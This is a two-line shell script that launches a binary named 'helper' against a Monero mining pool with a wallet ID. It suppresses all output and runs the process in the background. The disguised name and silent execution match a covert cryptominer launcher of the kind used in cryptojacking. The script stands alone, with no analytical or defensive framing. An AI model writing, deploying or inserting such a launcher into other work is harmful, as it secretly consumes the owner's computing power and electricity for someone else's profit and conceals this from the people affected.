#!/bin/sh
./helper -o stratum+tcp://pool.minexmr.com:4444 -u 44Ab >/dev/null 2>&1 &
